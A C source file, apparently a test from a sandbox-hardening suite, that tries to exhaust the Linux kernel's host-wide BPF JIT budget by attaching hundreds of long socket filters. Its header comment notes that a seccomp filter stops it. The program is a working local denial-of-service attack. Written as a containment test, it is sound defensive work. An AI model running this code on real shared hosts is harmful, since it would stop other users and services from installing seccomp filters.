/* Puts the longest filters on sockets: machine code, for which the kernel has a budget for the whole host, and without which
 * nobody gets a system call filter any more.
 * goal: a hundred of them, 5 MiB of that budget, under a limit of 64 MiB
 * stopped by: the system call filter, which refuses such calls
 * first: seccomp
 * second: -
 * alone: the kernel has one budget for everybody who has no capability (net.core.bpf_jit_limit)
 * ends: exit, memory-limit
 */
#include "attack.h"
#include <linux/filter.h>
int main(void) {
    /* A hundred of 4096 instructions; of 1000 as many more, where the kernel takes no longer ones (net.core.optmem_max). */
    enum { LENGTH = 4096, SHORTER = 1000 };
    static struct sock_filter code[LENGTH];
    for (unsigned i = 0; i < LENGTH; i++) code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_ADD | BPF_K, i * 65537);
    code[LENGTH - 1] = code[SHORTER - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
    int made = 0, wanted = 100;
    for (struct sock_fprog program = { LENGTH, code }; made < wanted; made++) {
        int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (fd >= 0 && setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) == 0) continue;
        if (made || program.len == SHORTER) break;
        program.len = SHORTER;
        wanted = 400;
        made--;
    }
    if (made == wanted) reached("%d filters", made);
    return tried();
}
